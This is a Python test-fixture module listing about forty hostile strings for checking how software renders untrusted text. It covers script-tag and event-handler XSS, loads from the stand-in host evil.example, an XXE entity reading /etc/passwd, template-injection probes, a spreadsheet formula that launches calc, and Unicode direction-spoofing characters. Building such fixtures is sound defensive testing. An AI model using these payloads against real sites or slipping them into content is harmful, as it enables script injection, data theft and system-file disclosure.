"""Forty strings that attack whatever shows them: markup, attributes, scripts, templates, style, direction of reading, spreadsheets, length.

Whoever runs one sets `window.ran`, or asks `evil.example` for something. Fields that take one line of text are tried with each; longer ones with all.
"""

from __future__ import annotations

RAN = "window.ran=1"
MARKUP = (
    f"<script>{RAN}</script>",
    f"</script><script>{RAN}</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    f"<scr<script>ipt>{RAN}</scr</script>ipt>",
    f"<img src=x onerror={RAN}>",
    '<img src="http://evil.example/pixel.png">',
    f"<svg onload={RAN}>",
    f"<svg><script>{RAN}</script></svg>",
    f"<svg><animate onbegin={RAN} attributeName=x dur=1s>",
    "<iframe src=http://evil.example/></iframe>",
    f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
    "<object data=http://evil.example/x.swf></object>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    f"<form action=http://evil.example/><input autofocus onfocus={RAN}>",
    f"<details open ontoggle={RAN}>",
    f"<body onload={RAN}>",
    f"<a href='javascript:{RAN}'>x</a>",
    "<style>@import 'http://evil.example/x.css';*{display:none}</style>",
    f"</style><script>{RAN}</script>",
    f"</title><script>{RAN}</script>",
    f"</textarea></noscript><script>{RAN}</script>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={RAN}></style>",
    f"<!--<script>{RAN}</script>-->",
    f"]]><script>{RAN}</script>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    f"&lt;script&gt;{RAN}&lt;/script&gt;",
)
ATTRIBUTES = (
    f'" onmouseover="{RAN}" x="',
    f"' autofocus onfocus='{RAN}' x='",
    f"` onmouseover={RAN} `",
    f"javascript:{RAN}//",
    "x:expression(alert(1));background:url(http://evil.example/x.png)",
)
TEMPLATES = (
    "{{ 7 * 7 }}{% for x in y %}{{ config }}",
    "${" + RAN + "}#{7*7}<%= 7*7 %>{0.__class__}%s%n",
    f"[x](javascript:{RAN}) ![x](http://evil.example/x.png)",
    "=cmd|' /C calc'!A0",
)
DIRECTION = ("\u202egnp.exe\u2066\u200f", "line\u2028end\u2029\u0085\ufeff")  # no scenario file may hold these; names of files and folders may
LONG = ("n" * 10_000,)
ALL = (*MARKUP, *ATTRIBUTES, *TEMPLATES, *DIRECTION, *LONG)
IN_FILES = tuple(text for text in ALL if text not in DIRECTION)


def yaml(text: str) -> str:
    """Return a text as a scalar of YAML."""
    return "'" + text.replace("'", "''") + "'"


def lines(longest: int) -> list[str]:
    """Return texts of at most so many characters that hold every string of a file between them, but for the long one, which is cut."""
    found = [""]
    for text in (one[: longest - 1] for one in IN_FILES):
        if len(found[-1]) + 1 + len(text) > longest:
            found.append("")
        found[-1] = f"{found[-1]} {text}".strip()
    return found
